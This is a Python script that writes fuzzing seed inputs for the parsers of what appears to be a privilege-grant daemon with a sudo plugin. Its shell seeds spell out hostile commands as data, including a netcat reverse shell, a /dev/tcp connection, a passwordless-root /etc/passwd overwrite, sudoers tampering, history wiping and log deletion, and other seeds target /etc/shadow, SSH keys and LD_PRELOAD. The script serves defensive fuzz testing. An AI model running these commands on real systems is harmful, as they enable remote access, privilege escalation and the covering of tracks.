#!/usr/bin/env python3
"""Writes the hand-made seeds of fuzz/corpus/ (run from anywhere; rewrites only seed-* files).

The seeds are the hostile inputs each target must survive: oversized names and unknown types
or fields, control characters, offsets at the edges of i64/u64, truncated and oversized
frames. Files cargo fuzz adds to the corpus (named by their hash) are kept as they are.
"""
import json, os, struct

HERE = os.path.dirname(os.path.abspath(__file__))
MIB = 1 << 20


def put(target, name, data):
    d = os.path.join(HERE, "corpus", target)
    os.makedirs(d, exist_ok=True)
    if isinstance(data, str):
        data = data.encode("utf-8", "surrogatepass")
    with open(os.path.join(d, "seed-" + name), "wb") as f:
        f.write(data)


def frame(body):
    if isinstance(body, str):
        body = body.encode()
    return struct.pack("<I", len(body)) + body


def req(r):
    return json.dumps({"v": 1, "req": r}, separators=(",", ":"))


spec = {
    "user": "alice", "duration_secs": 3600, "start_in_secs": 0, "account": True,
    "groups": ["adm"], "ssh_keys": [], "reason": "r", "ticket": "", "requested_by": "",
    "sudo": ["/usr/bin/apt update"], "runas": ["root"], "enable": False,
    "from": ["10.0.0.0/8"], "services": ["sshd"], "windows": ["Mon-Fri 09:00-18:00"],
    "mfa": False, "mfa_sudo": False, "end_with_session": False, "revoke_on": ["ioc"],
}
# socket_request: frames and bodies.
put("socket_request", "status", frame(req({"type": "get_status"})))
put("socket_request", "two-frames", frame(req({"type": "list_grants", "all": True})) + frame(req({"type": "list_sessions"})))
put("socket_request", "add-grant", frame(req({"type": "add_grant", "spec": spec})))
ctrl = dict(spec, user="al\x01ice\x1b[2J\x7f", reason="line\nbreak\x00nul", groups=["a\tb"])
put("socket_request", "control-chars-in-names", frame(req({"type": "add_grant", "spec": ctrl})))
put("socket_request", "control-chars-verify", frame(req({"type": "verify_mfa", "user": "\x1b]0;pwn\x07", "code": "12\r\n34", "purpose": "login", "service": "ss\x00hd", "grant": None})))
for n, off in [("2p63-1", 2**63 - 1), ("2p63", 2**63), ("2p64-1", 2**64 - 1)]:
    put("socket_request", "read-audit-offset-" + n, frame(req({"type": "read_audit", "grant": None, "since": None, "after_offset": off})))
# Past u64 and negative: not representable, must be refused, not wrapped.
put("socket_request", "read-audit-offset-2p64", frame('{"v":1,"req":{"type":"read_audit","grant":null,"since":null,"after_offset":18446744073709551616}}'))
put("socket_request", "read-audit-offset-neg", frame('{"v":1,"req":{"type":"read_audit","grant":null,"since":-9223372036854775808,"after_offset":-1}}'))
put("socket_request", "read-audit-offset-float", frame('{"v":1,"req":{"type":"read_audit","grant":null,"since":1e308,"after_offset":9.3e18}}'))
# About 1 MiB: an unknown type name, an unknown field, a huge known string (the body fits a frame).
big = "A" * (MIB - 64)
put("socket_request", "unknown-type-1mib", frame(req({"type": big})))
put("socket_request", "unknown-field-1mib", frame('{"v":1,"req":{"type":"get_status","' + "x" * (MIB - 64) + '":1}}'))
put("socket_request", "unknown-field-unit", frame('{"v":1,"req":{"type":"list_sessions","x":{"y":[1,2]}}}'))
put("socket_request", "huge-user-1mib", frame(req({"type": "show_grant", "id": "g" * (MIB - 64)})))
put("socket_request", "deep-nesting", frame('{"v":1,"req":' + "[" * 4000 + "]" * 4000 + "}"))
put("socket_request", "bad-version", frame('{"v":4294967296,"req":{"type":"get_status"}}'))
put("socket_request", "dup-keys", frame('{"v":1,"req":{"type":"get_status","type":"add_grant"}}'))
put("socket_request", "len-zero", struct.pack("<I", 0))
put("socket_request", "len-max", struct.pack("<I", 0xFFFFFFFF) + b"{}")
put("socket_request", "len-over-cap", struct.pack("<I", MIB + 1) + b"{")
put("socket_request", "truncated", struct.pack("<I", 100) + b'{"v":1')
put("socket_request", "raw-body", req({"type": "revoke_grant", "id": "g-1", "reason": "\u202e"}))
put("socket_request", "invalid-utf8", frame(b'{"v":1,"req":{"type":"show_grant","id":"\xff\xfe"}}'))

# snapshot: valid images (seed-writer-*) were written by jitd's writer through
#   cargo run -p nss_jit --example write_snapshot -- fuzz/corpus/snapshot/seed-writer-... SPEC...
# (jit_fuzz/tests/corpus.rs checks they still parse; seed-writer-indexed, written with index=1,
# also through the base reader); here the hostile headers.
put("snapshot", "empty", b"")
put("snapshot", "magic-only", b"JITSNAP\x00")
put("snapshot", "all-ff-header", b"\xff" * 256)
put("snapshot", "zeros", b"\x00" * 4096)

# shell: scripts as sudo -c would see them.
for n, s in [
    ("revshell", "mkfifo /tmp/f; sh -i < /tmp/f 2>&1 | nc 10.0.0.1 4444 > /tmp/f"),
    ("history", 'bash -c "history -c; unset HISTFILE; echo x >> /etc/sudoers"'),
    ("nested-subs", '"$(echo "$(cat /etc/shadow)" `id`)"' * 50),
    ("unterminated", "echo 'abc \"def $(ls"),
    ("heredoc", "cat <<EOF > /etc/passwd\nroot::0:0::/:/bin/sh\nEOF"),
    ("redirs", "exec 3<>/dev/tcp/1.2.3.4/80; cat <&3 >&2 2>&1 &>> /var/log/x <<< word"),
    ("controls", "echo \x00\x01\x1b[2J\x7f; \\\n rm -rf /var/log/*"),
    ("many-separators", ";&|" * 20000),
    ("deep-parens", "(" * 10000 + "id" + ")" * 10000),
]:
    put("shell", n, s)

# glob: PATTERN NUL TEXT.
for n, s in [
    ("star", "/etc/sud*rs\x00/etc/sudoers"),
    ("class", "/etc/[sp]hadow\x00/etc/shadow"),
    ("open-bracket", "/etc/[shadow\x00/etc/[shadow"),
    ("many-stars", "*" * 200 + "a\x00" + "b" * 4000),
    ("dotdot", "/etc/../root/*\x00/root/.ssh"),
    ("tilde", "~root/.ssh/*\x00/root/.ssh/id_rsa"),
]:
    put("glob", n, s)

# sudo_info: settings 0xff user_info 0xff command_info 0xff run_argv, entries NUL-separated.
def vecs(*parts):
    return b"\xff".join(b"\x00".join(p) for p in parts)

base_settings = [b"runas_user=root", b"sudoedit=false", b"noninteractive=true"]
base_user = [b"user=alice", b"uid=70001", b"gid=70001", b"groups=70001,27"]
put("sudo_info", "plain", vecs(base_settings, base_user, [b"command=/usr/bin/apt", b"runas_uid=0", b"runas_gid=0"], [b"apt", b"install", b"vim"]))
put("sudo_info", "uid-minus-one", vecs(base_settings, [b"user=alice", b"uid=4294967295"], [b"command=/bin/sh", b"runas_uid=4294967295", b"runas_euid=0"], [b"sh", b"-c", b"id"]))
put("sudo_info", "dup-keys", vecs(base_settings, base_user + [b"uid=0"], [b"command=/bin/id", b"command=/bin/sh", b"runas_uid=0"], [b"id"]))
put("sudo_info", "non-utf8", vecs(base_settings, base_user, [b"command=/bin/ls", b"runas_uid=0"], [b"ls", b"\xc3\x28"]))
put("sudo_info", "sudoedit", vecs([b"sudoedit=true"], base_user, [b"command=sudoedit", b"sudoedit=true", b"runas_uid=0"], [b"sudoedit", b"/etc/sudoers"]))
put("sudo_info", "env-argv", vecs([b"preserve_environment=true", b"timeout=5", b"debug"], base_user, [b"command=/usr/bin/env", b"runas_uid=0"], [b"sudo", b"LD_PRELOAD=/tmp/x.so", b"--preserve-env=PATH", b"/usr/bin/id"]))
put("sudo_info", "long-value", vecs(base_settings, base_user, [b"command=/" + b"a" * 70000, b"runas_uid=0"], [b"x"]))

# policy_values: option values as typed.
for n, s in [
    ("duration", "1d12h30m5s"), ("duration-neg", "-5m"), ("duration-overflow", "99999999999999999999d"),
    ("duration-order", "30m1h"), ("window", "Mon-Fri 09:00-18:00"), ("window-wrap", "Fri-Mon 22:00-06:00"),
    ("window-list", "mon,WED,Fri-Sat 0:00-24:00"), ("window-bad", "Mon-Fri 24:00-09:00x"),
    ("cidr4", "10.1.2.3/8"), ("cidr6", "2001:db8::1/32"), ("cidr-mapped", "::ffff:10.0.0.0/104"),
    ("cidr-zone", "fe80::1%eth0/64"), ("cidr-leading-zero", "010.0.0.1/32"), ("class", "software-install"),
    ("scope", "/usr/bin/apt update"), ("scope-all", "ALL"), ("scope-quoted", '/bin/echo "a b" \'c\\\' d\''),
    ("runas", "postgres:www-data"), ("runas-hash", "#0"), ("ioc", "/usr/bin/curl -T"),
    ("rhost", "::ffff:127.0.0.1"), ("controls", "\x1b[2J\x00\x7f"),
]:
    put("policy_values", n, s)
